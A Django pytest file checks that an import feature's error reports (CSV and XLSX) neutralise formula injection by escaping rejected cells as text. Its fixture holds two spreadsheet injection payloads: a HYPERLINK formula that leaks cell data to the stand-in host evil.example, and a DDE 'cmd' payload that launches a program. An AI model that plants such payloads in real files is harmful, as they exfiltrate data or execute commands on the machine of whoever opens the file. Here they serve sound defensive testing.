"""An imported file's rejected cells come back in the error report as text, never as a live
spreadsheet formula (CSV/formula injection into the staff member who opens the report)."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from analytics.imports.jobs import import_job_create

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
COMMAND = "+cmd|' /C calc'!A0"


@pytest.fixture
def job(settings, tmp_path, django_capture_on_commit_callbacks):
    settings.MEDIA_ROOT = tmp_path / "media"
    text = (
        "customer_id,order_id,ordered_at,amount\n"
        f'C1,O1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",10\n'
        f"C1,O2,2026-01-05,{COMMAND}\n"
    )
    upload = SimpleUploadedFile("bad.csv", text.encode("utf-8"))
    with django_capture_on_commit_callbacks(execute=True):
        job = import_job_create(kind="purchases", upload=upload)
    job.refresh_from_db()
    assert job.rows_failed == 2
    return job


def _download(client, job, fmt) -> bytes:
    reply = client.get(f"/api/v1/imports/{job.pk}/error-report/?format={fmt}")
    assert reply.status_code == 200
    return b"".join(reply.streaming_content)


def test_the_csv_report_shows_formulas_as_text(job, admin_client):
    rows = list(csv.reader(io.StringIO(_download(admin_client, job, "csv").decode("utf-8-sig"))))
    values = [row[2] for row in rows[1:]]
    assert values == ["'" + HYPERLINK, "'" + COMMAND]


def test_the_xlsx_report_holds_no_formula(job, admin_client):
    sheet = load_workbook(io.BytesIO(_download(admin_client, job, "xlsx"))).active
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s", "s"]
    assert [cell.value for cell in cells] == ["'" + HYPERLINK, "'" + COMMAND]
